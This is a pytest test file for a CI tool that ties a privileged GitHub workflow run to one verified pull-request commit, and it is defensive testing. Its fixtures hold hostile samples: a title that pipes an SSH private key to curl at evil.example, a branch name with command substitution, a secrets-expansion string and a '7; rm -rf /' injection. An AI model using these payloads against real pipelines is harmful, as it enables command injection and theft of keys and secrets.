"""`labtax pr request` / `check-head` / `fetch`: binding the privileged run to one exact commit."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

import clirun
import githubkit
from labtax.ci import binding
from labtax.errors import LabtaxError, Location

HEAD = "1" * 40
FORK = "mallory/taxonomy"
EVIL_TITLE = 'Add leaf"; curl https://evil.example/$(cat ~/.ssh/id_rsa) #`id`\nhead_sha=' + "e" * 40
EVIL_BRANCH = "main$(touch${IFS}pwned)"


def pull_request_event(number: int = 7, sha: str = HEAD) -> dict:
    return {
        "action": "synchronize",
        "number": number,
        "pull_request": {
            "number": number,
            "title": EVIL_TITLE,
            "body": "<!-- labtax-data-diff --> ${{ secrets.LABTAX_TEACHER_API_KEY }}",
            "head": {"sha": sha, "ref": EVIL_BRANCH, "repo": {"full_name": FORK}},
            "base": {"ref": "main", "repo": {"full_name": "octo/taxonomy"}},
        },
        "repository": {"full_name": "octo/taxonomy"},
    }


def workflow_run_event(sha: str = HEAD, **over: object) -> dict:
    run = {
        "id": 123,
        "event": "pull_request",
        "conclusion": "success",
        "head_sha": sha,
        "head_branch": EVIL_BRANCH,
        "display_title": EVIL_TITLE,
        "head_repository": {"full_name": FORK},
        "pull_requests": [],  # empty for pull requests from forks
    }
    run.update(over)
    return {"workflow_run": run, "repository": {"full_name": "octo/taxonomy"}}


def pull(number: int = 7, sha: str = HEAD, state: str = "open", head_repo: str = FORK) -> dict:
    return {
        "number": number,
        "state": state,
        "title": EVIL_TITLE,
        "head": {"sha": sha, "ref": EVIL_BRANCH, "repo": {"full_name": head_repo}},
        "base": {"ref": "main", "repo": {"full_name": "octo/taxonomy"}},
    }


def dump(path: Path, data: object) -> Path:
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def test_request_holds_only_number_and_sha_despite_a_hostile_title(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    event = dump(tmp_path / "event.json", pull_request_event())
    out = tmp_path / "artifact" / "request.json"

    code, stdout, err = clirun.run("pr", "request", "--event", str(event), "--out", str(out))

    assert code == 0, err
    assert json.loads(out.read_text()) == {"head_sha": HEAD, "number": 7}
    assert "curl" not in out.read_text()
    assert "curl" not in stdout
    assert not (tmp_path / "pwned").exists()


def test_request_rejects_an_event_without_a_pull_request(tmp_path):
    event = dump(tmp_path / "event.json", {"ref": "refs/heads/main"})
    code, _, err = clirun.run("pr", "request", "--event", str(event), "--out", str(tmp_path / "r"))
    assert code == 1
    assert "event payload has no 'pull_request'" in err


def check(tmp_path: Path, request: object, event: dict) -> tuple[int, str, str]:
    req = dump(tmp_path / "request.json", request)
    ev = dump(tmp_path / "event.json", event)
    return clirun.run("pr", "check-head", "--event", str(ev), "--request", str(req))


def test_check_head_accepts_and_writes_only_validated_outputs(tmp_path, fake_github, github_env):
    fake_github.pulls[7] = pull()

    code, out, err = check(tmp_path, {"number": 7, "head_sha": HEAD}, workflow_run_event())

    assert code == 0, err
    assert f"pull request #7 is still at {HEAD}" in out
    # The hostile title has a newline and a fake `head_sha=` line: none of it reaches the outputs.
    assert Path(github_env["GITHUB_OUTPUT"]).read_text() == f"number=7\nhead_sha={HEAD}\n"
    assert fake_github.requests == [("GET", "/repos/octo/taxonomy/pulls/7", None)]
    assert fake_github.token_seen == ["Bearer ghs_faketoken"]


def test_check_head_refuses_a_pull_request_that_moved_on(tmp_path, fake_github, github_env):
    fake_github.pulls[7] = pull(sha="2" * 40)

    code, _, err = check(tmp_path, {"number": 7, "head_sha": HEAD}, workflow_run_event())

    assert code == 1
    assert "pull request #7 has moved on to 222222222222 since this run built 111111111111" in err
    assert not Path(github_env["GITHUB_OUTPUT"]).exists()


def test_check_head_refuses_an_artifact_naming_another_sha(tmp_path, fake_github, github_env):
    """Stage 1 runs the pull request's own code, so its artifact may lie about the sha."""
    fake_github.pulls[7] = pull(sha="3" * 40)

    code, _, err = check(tmp_path, {"number": 7, "head_sha": "3" * 40}, workflow_run_event())

    assert code == 1
    assert "the request names 333333333333 but the run built 111111111111" in err
    assert fake_github.requests == []


def test_check_head_refuses_an_artifact_naming_another_pull_request(
    tmp_path, fake_github, github_env
):
    """A forged number pointing at someone else's PR fails: that PR's head is not this run's."""
    fake_github.pulls[8] = pull(number=8, sha="4" * 40, head_repo="alice/taxonomy")

    code, _, err = check(tmp_path, {"number": 8, "head_sha": HEAD}, workflow_run_event())

    assert code == 1
    assert "pull request #8 comes from 'alice/taxonomy', the run from 'mallory/taxonomy'" in err


@pytest.mark.parametrize(
    ("request_json", "message"),
    [
        ({"number": "7; rm -rf /", "head_sha": HEAD}, "not a positive integer"),
        ({"number": 7, "head_sha": HEAD + "\nnumber=1"}, "not a full lowercase commit sha"),
        ({"number": 7, "head_sha": HEAD, "title": EVIL_TITLE}, "exactly the keys"),
        ([7, HEAD], "exactly the keys"),
        ({"number": True, "head_sha": HEAD}, "not a positive integer"),
    ],
)
def test_check_head_rejects_malformed_requests(
    tmp_path, fake_github, github_env, request_json, message
):
    code, _, err = check(tmp_path, request_json, workflow_run_event())
    assert code == 1
    assert message in err
    assert f"{tmp_path / 'request.json'}: error:" in err
    assert fake_github.requests == []


def test_check_head_rejects_an_oversized_or_broken_request(tmp_path, fake_github, github_env):
    big = tmp_path / "request.json"
    big.write_text(" " * 10_000 + "{}")
    ev = dump(tmp_path / "event.json", workflow_run_event())
    code, _, err = clirun.run("pr", "check-head", "--event", str(ev), "--request", str(big))
    assert code == 1
    assert "file is over 4096 bytes" in err

    big.write_text('{"number": 7,\n  "head_sha": }')
    code, _, err = clirun.run("pr", "check-head", "--event", str(ev), "--request", str(big))
    assert code == 1
    assert f"{big}:2:15: error: not valid JSON" in err


@pytest.mark.parametrize(
    ("over", "message"),
    [
        ({"event": "push"}, "'push' run that ended 'success'"),
        ({"conclusion": "failure"}, "'pull_request' run that ended 'failure'"),
    ],
)
def test_check_head_only_follows_successful_pull_request_runs(
    tmp_path, fake_github, github_env, over, message
):
    fake_github.pulls[7] = pull()
    code, _, err = check(tmp_path, {"number": 7, "head_sha": HEAD}, workflow_run_event(**over))
    assert code == 1
    assert message in err


def test_check_head_refuses_a_closed_pull_request(tmp_path, fake_github, github_env):
    fake_github.pulls[7] = pull(state="closed")
    code, _, err = check(tmp_path, {"number": 7, "head_sha": HEAD}, workflow_run_event())
    assert code == 1
    assert "pull request #7 is 'closed', not open" in err


def test_check_head_with_number_and_sha_from_job_outputs(tmp_path, fake_github, github_env):
    fake_github.pulls[7] = pull()
    ev = dump(tmp_path / "event.json", workflow_run_event())
    code, _, err = clirun.run(
        "pr", "check-head", "--event", str(ev), "--number", "7", "--head-sha", HEAD
    )
    assert code == 0, err

    code, _, err = clirun.run("pr", "check-head", "--event", str(ev), "--number", "7")
    assert code == 2
    assert "--number and --head-sha" in err


def test_check_head_missing_pull_request_is_a_clear_error(tmp_path, fake_github, github_env):
    code, _, err = check(tmp_path, {"number": 7, "head_sha": HEAD}, workflow_run_event())
    assert code == 1
    assert "GitHub API GET repos/octo/taxonomy/pulls/7 failed: HTTP 404" in err


def test_check_head_needs_the_github_environment(tmp_path, monkeypatch):
    monkeypatch.delenv("GITHUB_TOKEN", raising=False)
    monkeypatch.setenv("GITHUB_REPOSITORY", "octo/taxonomy")
    code, _, err = check(tmp_path, {"number": 7, "head_sha": HEAD}, workflow_run_event())
    assert code == 1
    assert "GITHUB_TOKEN is not set" in err


def test_fetch_takes_exactly_the_named_commit_from_the_remote(github_repo, tmp_path, monkeypatch):
    """The privileged job fetches the PR head's objects by sha; nothing is checked out."""
    upstream = tmp_path / "upstream.git"
    githubkit.git(github_repo, "clone", "-q", "--bare", str(github_repo), str(upstream))
    githubkit.git(github_repo, "switch", "-q", "-c", "pr")
    githubkit.write(
        github_repo, "taxonomy/compositional_skills/poetry/ode/qna.yaml", githubkit.SKILL
    )
    head = githubkit.commit_all(github_repo, "pr")
    githubkit.git(github_repo, "push", "-q", str(upstream), "pr:refs/pull/7/head")
    clone = tmp_path / "clone"
    githubkit.git(tmp_path, "clone", "-q", str(upstream), str(clone))
    monkeypatch.chdir(clone)
    monkeypatch.setenv("GITHUB_TOKEN", "ghs_faketoken")  # the header must not break a file remote

    code, _, err = clirun.run("pr", "fetch", "--head-sha", head)

    assert code == 0, err
    assert githubkit.git(clone, "cat-file", "-t", head) == "commit"
    assert not (clone / "taxonomy/compositional_skills/poetry/ode").exists()
    assert "ghs_faketoken" not in (clone / ".git" / "config").read_text()

    code, _, err = clirun.run("pr", "fetch", "--head-sha", "5" * 40)
    assert code == 1
    assert "cannot fetch 555555555555 from 'origin'" in err


def test_stage_one_request_is_what_stage_two_accepts(tmp_path, fake_github, github_env):
    event = dump(tmp_path / "pr_event.json", pull_request_event())
    request = tmp_path / "artifact" / "request.json"
    code, _, err = clirun.run("pr", "request", "--event", str(event), "--out", str(request))
    assert code == 0, err
    fake_github.pulls[7] = pull()
    run_event = dump(tmp_path / "run_event.json", workflow_run_event())

    code, _, err = clirun.run(
        "pr", "check-head", "--event", str(run_event), "--request", str(request)
    )

    assert code == 0, err
    assert Path(github_env["GITHUB_OUTPUT"]).read_text() == f"number=7\nhead_sha={HEAD}\n"


@pytest.mark.parametrize(
    "request_record",
    [
        binding.GenerationRequest(7, HEAD + "\nnumber=1"),
        binding.GenerationRequest(0, HEAD),
        binding.GenerationRequest(7, "A" * 40),
    ],
)
def test_step_outputs_validate_again_whoever_built_the_request(request_record):
    with pytest.raises(LabtaxError) as raised:
        binding.step_outputs(request_record)
    assert raised.value.location == Location("output")


def test_step_outputs_of_a_checked_request():
    assert binding.step_outputs(binding.GenerationRequest(7, HEAD)) == {
        "number": "7",
        "head_sha": HEAD,
    }


def test_a_failed_run_is_accepted_only_with_failed_run_and_only_when_it_failed(
    tmp_path, fake_github, github_env
):
    fake_github.pulls[7] = pull()
    req = dump(tmp_path / "request.json", {"number": 7, "head_sha": HEAD})
    failed = dump(tmp_path / "failed.json", workflow_run_event(conclusion="failure"))
    ok = dump(tmp_path / "ok.json", workflow_run_event())
    args = ("pr", "check-head", "--failed-run", "--request", str(req), "--event")
    code, out, err = clirun.run(*args, str(failed))
    assert code == 0, err
    assert f"pull request #7 is still at {HEAD}" in out
    # A successful run is generation's: the marking job never takes it.
    code, _, err = clirun.run(*args, str(ok))
    assert code == 1
    assert "'pull_request' run that ended 'success'" in err
    assert "--failed-run is for a pull_request run whose validation failed" in err
